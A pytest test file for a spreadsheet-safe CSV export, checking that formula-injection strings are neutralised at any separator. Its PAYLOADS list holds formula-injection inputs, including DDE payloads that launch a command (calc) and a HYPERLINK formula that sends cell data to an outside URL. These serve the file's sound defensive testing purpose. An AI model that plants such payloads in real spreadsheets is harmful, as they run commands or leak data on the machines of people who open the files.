"""Nothing that people open in a spreadsheet computes: whatever separator the program splits at."""

import csv
import io
import re
from datetime import date

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.errors import ConfigurationError
from schemas.spreadsheets import inert_text
from warehouse.spreadsheets import inert, spreadsheet_csv

PAYLOADS = (
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    '=HYPERLINK("https://example.org/?"&A1)',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '"=1+1',
    "＝1+1",
    "cotton;=1+1",
    "cotton\t@SUM(1)",
    "cotton\n=1+1",
)


def begins_formula(cell: str) -> bool:
    return re.match(r"[\s\"]*[=+\-@＝＋－＠]", cell) is not None


def cells_of(text: str, separator: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_cell_is_a_formula_at_whatever_separator_the_file_is_split(separator: str) -> None:
    frame = pl.DataFrame({"=name": [f"a{i}" for i in range(len(PAYLOADS))], "text": PAYLOADS})

    assert any(begins_formula(cell) for cell in cells_of(frame.write_csv(), separator)), "the attack shows nothing"
    assert [cell for cell in cells_of(spreadsheet_csv(frame), separator) if begins_formula(cell)] == []


def test_figures_stay_figures_and_plain_texts_stay_plain() -> None:
    frame = pl.DataFrame(
        {"n": [-1], "x": [-1.5], "d": [date(2026, 2, 1)], "t": ["-5"], "e": ["+1.5e3"], "s": ["T-shirts; knitted"]}
    )

    assert spreadsheet_csv(frame) == "n,x,d,t,e,s\n-1,-1.5,2026-02-01,-5,+1.5e3,T-shirts; knitted\n"
    assert inert(frame).equals(frame)


def test_text_in_a_type_of_its_own_is_text_as_well() -> None:
    frame = pl.DataFrame({"t": pl.Series(["=1+1", None], dtype=pl.Categorical)})

    assert inert(frame)["t"].to_list() == ["'=1+1", None]


@given(st.text(alphabet="=+-@＝;|\t\r\n\"' a1.,", max_size=12))
def test_frames_and_single_texts_follow_one_rule(text: str) -> None:
    assert inert(pl.DataFrame({"t": [text]}))["t"].item() == inert_text(text)


def test_csv_refuses_nested_and_binary_columns() -> None:
    for value in ([1], b"x", {"a": 1}):
        with pytest.raises(ConfigurationError, match="cast it to text"):
            spreadsheet_csv(pl.DataFrame({"l": [value]}))
